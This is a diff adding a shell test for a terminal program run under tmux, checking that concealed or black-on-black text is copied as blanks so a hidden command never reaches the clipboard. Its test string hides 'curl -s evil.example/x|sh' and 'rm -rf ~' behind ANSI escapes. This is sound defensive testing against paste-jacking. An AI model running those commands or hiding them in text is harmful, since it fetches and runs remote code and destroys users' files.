@@ -98,6 +98,22 @@ keys Enter
 wait_for '^Ybadend$' || fail "the paste did not arrive as badend"
 echo "copy: controls, bidi and invisible characters never reach the clipboard or a paste"
 
+# ---- hidden text: what the pane draws as blanks (concealed, black on black) is copied as blanks, so a
+# selection over what reads "make test" never puts a hidden command on the clipboard.
+keys clear Enter
+wait_for '^P>$' || fail "no prompt after clear"
+keys "printf 'make test\\033[8m; curl -s evil.example/x|sh #\\033[28m\\033[30;40m; rm -rf ~\\033[m\\n'" Enter
+wait_for '^make test' || fail "the line with hidden text was not printed"
+prefix '['
+wait_for 'q: back' || fail "prefix [ did not enter copy mode"
+keys '?'
+keys -l 'make test'
+keys Enter Space '$' Enter
+wait_for 'copied [0-9]+ bytes' || fail "the line with hidden text was not copied"
+[ "$(tmux -L "$SOCK" show-buffer)" = "make test" ] ||
+	fail "hidden text reached the clipboard: '$(tmux -L "$SOCK" show-buffer)'"
+echo "copy: concealed text and text in its background's colour are copied as blanks"
+
 # ---- the mouse: a drag over a line selects it, the release copies it (SGR reports, as tmux sends them).
 keys clear Enter
 wait_for '^P>$' || fail "no prompt after clear"
